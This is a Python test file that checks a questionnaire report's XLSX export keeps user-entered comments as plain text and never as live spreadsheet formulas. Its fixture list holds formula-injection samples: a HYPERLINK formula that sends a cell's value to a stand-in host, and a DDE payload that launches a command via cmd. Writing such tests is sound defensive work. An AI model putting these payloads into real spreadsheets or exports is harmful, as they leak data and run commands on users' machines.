"""The report's XLSX never holds a formula: free text that looks like one stays text."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from aigak.questionnaires.registry import get_questionnaire
from aigak.records.actions import import_rows

COMMENTS = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+7 701 555 0101", "@SUM(A1)",
            "-cmd|' /C calc'!A0"]  # fmt: skip


@pytest.fixture
def records(questionnaires, admin_user):
    rows = [
        {"record_id": f"V-{i}", "vital_status": "deceased", "gender": "male",
         "essence": ["died"], "entry_date": "2022-04-04", "region_residence": "almaty",
         "ethnicity": "other", "ethnicity_other": text}
        for i, text in enumerate(COMMENTS, 1)
    ]  # fmt: skip
    import_rows(admin_user, get_questionnaire("victim"), enumerate(rows, 1))


def test_no_cell_of_the_report_xlsx_is_a_formula(client, coordinator, records):
    client.force_login(coordinator)
    response = client.get(
        "/reports/qantar2022/download/xlsx/", {"where": "region_residence=almaty"}
    )
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert texts & set(COMMENTS), "the comments are in the workbook, unchanged"
